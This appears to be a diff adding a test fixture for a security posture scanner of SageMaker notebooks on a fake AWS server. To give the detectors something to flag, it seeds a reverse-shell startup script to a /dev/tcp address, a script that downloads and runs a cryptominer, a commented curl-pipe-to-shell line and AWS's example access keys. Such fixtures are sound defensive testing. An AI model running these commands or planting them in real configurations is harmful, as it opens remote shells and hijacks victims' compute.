@@ -1,0 +1,67 @@
+/**
+ * The account `sm-ir posture` is tested against: for every check, one resource that fails it and one
+ * that passes it (a near miss where one exists), served by the wire-level fake in two regions.
+ */
+import { startFakeAws, type FakeAws } from '../fake-aws/server.js';
+import { createEc2 } from '../fake-aws/services/ec2.js';
+import { createSageMakerInventory, type SageMakerInventoryFake } from '../fake-aws/services/sagemaker-inventory.js';
+import { createSts } from '../fake-aws/services/sts.js';
+
+export interface PostureWorld {
+  fake: FakeAws;
+  sm: SageMakerInventoryFake;
+}
+
+/** The script an attacker planted: a reverse shell on every start (created long before any trail window). */
+export const PLANTED_SCRIPT = '#!/bin/bash\nset -e\nnohup bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" &\n';
+/** What a data scientist writes: installs, a download that is not executed, a secret fetched at run time. */
+export const BENIGN_SCRIPT = [
+  '#!/bin/bash',
+  '# never do: curl http://example.com/x.sh | sh',
+  'sudo -u ec2-user -i pip install --upgrade jupyterlab-git',
+  'curl -fsSL -o /tmp/environment.yml https://example.com/environment.yml',
+  'DB_PASSWORD=$(aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text)',
+  '',
+].join('\n');
+/** AWS's documented example keys, written into a script as people do. */
+export const SECRET_SCRIPT = '#!/bin/bash\nexport AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n';
+
+/** Each check, the resource that fails it and the one that passes it (region/name). */
+export const EXPECTED: Record<string, { fails: string[]; passes: string[] }> = {
+  'notebook-root-access': { fails: ['us-east-1/nb-root', 'us-east-1/nb-root-default'], passes: ['us-east-1/nb-secure'] },
+  'notebook-direct-internet': { fails: ['us-east-1/nb-internet', 'us-east-1/nb-no-vpc'], passes: ['us-east-1/nb-secure'] },
+  'notebook-outside-vpc': { fails: ['us-east-1/nb-no-vpc'], passes: ['us-east-1/nb-internet'] },
+  'notebook-volume-no-kms-key': { fails: ['us-east-1/nb-no-kms'], passes: ['us-east-1/nb-secure'] },
+  'notebook-imdsv1-allowed': { fails: ['us-east-1/nb-imdsv1', 'us-east-1/nb-imds-default'], passes: ['us-east-1/nb-secure'] },
+  'notebook-unsupported-platform': { fails: ['us-east-1/nb-old-platform'], passes: ['us-east-1/nb-secure'] },
+  'notebook-lifecycle-attached': { fails: ['us-east-1/nb-benign-lcc', 'us-east-1/nb-planted'], passes: ['us-east-1/nb-secure'] },
+  'notebook-runs-suspicious-script': { fails: ['us-east-1/nb-planted'], passes: ['us-east-1/nb-benign-lcc'] },
+  'lifecycle-script-suspicious': { fails: ['us-east-1/lcc-planted', 'eu-west-1/lcc-eu-miner'], passes: ['us-east-1/lcc-benign', 'us-east-1/lcc-secret'] },
+  'lifecycle-script-secret': { fails: ['us-east-1/lcc-secret'], passes: ['us-east-1/lcc-benign', 'us-east-1/lcc-planted'] },
+};
+
+export async function startPostureWorld(): Promise<PostureWorld> {
+  const sm = createSageMakerInventory();
+  const fake = await startFakeAws();
+  fake.register(sm.module);
+  fake.register(createSts());
+  fake.register(createEc2(fake.regions));
+  const east = 'us-east-1';
+  sm.seed.notebook(east, 'nb-secure');
+  sm.seed.notebook(east, 'nb-root', { RootAccess: 'Enabled' });
+  sm.seed.notebook(east, 'nb-root-default', { RootAccess: undefined });
+  sm.seed.notebook(east, 'nb-internet', { DirectInternetAccess: 'Enabled' });
+  sm.seed.notebook(east, 'nb-no-vpc', { SubnetId: undefined, SecurityGroups: undefined, DirectInternetAccess: 'Enabled' });
+  sm.seed.notebook(east, 'nb-no-kms', { KmsKeyId: undefined });
+  sm.seed.notebook(east, 'nb-imdsv1', { InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '1' } });
+  sm.seed.notebook(east, 'nb-imds-default', { InstanceMetadataServiceConfiguration: undefined });
+  sm.seed.notebook(east, 'nb-old-platform', { PlatformIdentifier: 'notebook-al1-v1' });
+  sm.seed.notebook(east, 'nb-benign-lcc', { NotebookInstanceLifecycleConfigName: 'lcc-benign' });
+  sm.seed.notebook(east, 'nb-planted', { NotebookInstanceLifecycleConfigName: 'lcc-planted' });
+  sm.seed.lifecycleConfig(east, 'lcc-planted', { onStart: [PLANTED_SCRIPT] });
+  sm.seed.lifecycleConfig(east, 'lcc-benign', { onCreate: [BENIGN_SCRIPT], onStart: ['#!/bin/bash\necho started\n'] });
+  sm.seed.lifecycleConfig(east, 'lcc-secret', { onStart: [SECRET_SCRIPT] });
+  sm.seed.notebook('eu-west-1', 'nb-eu-secure');
+  sm.seed.lifecycleConfig('eu-west-1', 'lcc-eu-miner', { onCreate: ['#!/bin/bash\nwget -q https://198.51.100.9/xmrig -O /tmp/x && chmod +x /tmp/x\n/tmp/x -o stratum+tcp://pool.example.net:3333\n'] });
+  return { fake, sm };
+}
